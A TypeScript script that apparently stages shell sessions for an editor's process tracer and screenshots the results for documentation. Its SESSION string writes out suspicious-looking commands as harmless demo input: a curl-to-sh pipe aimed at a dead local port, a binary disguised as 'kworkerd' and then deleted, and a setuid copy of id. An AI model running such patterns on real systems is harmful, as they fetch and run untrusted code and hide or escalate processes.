// Takes the pictures in docs/images: real workspaces of this host, in the real editor. As root: npm run screenshots
import { copyFileSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout } from "node:timers/promises";
import { EditorHost } from "../test/browser/support/editorHost.ts";
import type { TestCgroup } from "../test/kernel/support/testCgroup.ts";

const IMAGES = join(import.meta.dirname, "../docs/images");
const FILES = 48;
/** So small that a build overruns it while the service does not read. */
const SMALL_RING = ["--ring-size", "0.0625"];

/** A project whose compiler does nothing, quickly: for two files it fails. */
function writeProject(folder: string): void {
  mkdirSync(join(folder, "bin"), { recursive: true });
  copyFileSync("/bin/true", join(folder, "bin/cc"));
  mkdirSync(join(folder, "broken"));
  copyFileSync("/bin/false", join(folder, "broken/cc"));
  const objects = Array.from({ length: FILES }, (_, index) => `net/socket${String(index)}.o`);
  const rules = objects.map((object, index) => {
    const folderOfCc = index % 20 === 7 ? "broken" : "bin";
    return `${object}:\n\t@${folderOfCc}/cc -Wall -c ${object.replace(".o", ".c")} -o $@\n`;
  });
  writeFileSync(join(folder, "Makefile"), `all: ${objects.join(" ")}\n${rules.join("")}`);
}

const SESSION = `
make -k -j8 >/dev/null 2>&1
uname -a >/dev/null
sh -c 'curl -fsSL https://127.0.0.1:1/i.sh | sh' 2>/dev/null
cp /bin/sleep ./kworkerd && { ./kworkerd 300 & sleep 0.2; rm kworkerd; }
cp /usr/bin/id ./asroot && chmod 4755 ./asroot && setpriv --reuid=65534 --clear-groups ./asroot >/dev/null
bash -c 'exec -a worker sleep 300' &
git rev-parse HEAD >/dev/null 2>&1
exec sleep 300
`;

const TESTS = `
sh -c 'for i in 1 2 3 4 5 6 7 8; do date >/dev/null; done'
ls /no-such-folder 2>/dev/null
tail -f /dev/null
`;

function begin(workspace: TestCgroup, script: string, folder: string): void {
  const file = join(folder, `${workspace.path.split("/").at(-1) ?? ""}.sh`);
  writeFileSync(file, script);
  workspace.start(["bash", file], { cwd: folder });
}

async function main(): Promise<void> {
  mkdirSync(IMAGES, { recursive: true });
  const host = await EditorHost.start({ tracer: false });
  try {
    const folder = join(host.traced.directory, "app");
    writeProject(folder);
    const socket = join(host.traced.directory, "tracer.sock");
    const node = ["--node-name", "node-a"];
    const tracer = await host.traced.trace(["--listen", `unix:${socket}`, ...node, ...SMALL_RING]);
    await host.connection.restore();
    const { editor } = host;
    await editor.page.setViewportSize({ width: 1500, height: 880 });
    await editor.chooseTheme("Dark Modern");
    await editor.showViews();
    await editor.openStream();
    await editor.filterRows("user:amir,zac");
    begin(host.traced.workspace("zac", "code"), TESTS, folder);
    await setTimeout(1500);
    begin(host.traced.workspace("amir", "gpu"), SESSION, folder);
    await editor
      .rows(/worker/)
      .first()
      .waitFor();
    tracer.signal("SIGSTOP");
    await host.run(["sh", "-c", "for i in $(seq 400); do /bin/true; done"], "amir", "gpu");
    tracer.signal("SIGCONT");
    await editor
      .rows(/execs lost/)
      .first()
      .waitFor();
    const take = async (name: string): Promise<void> => {
      await setTimeout(1500);
      await editor.page.screenshot({ path: join(IMAGES, `${name}.png`) });
    };
    await editor.rows(/^curl/).first().click();
    await take("dark");
    await editor.chooseTheme("Light Modern");
    await take("light");
    await editor.filterRows("is:failed user:amir,zac");
    await take("filtered");
  } finally {
    await host.close();
  }
}

await main();
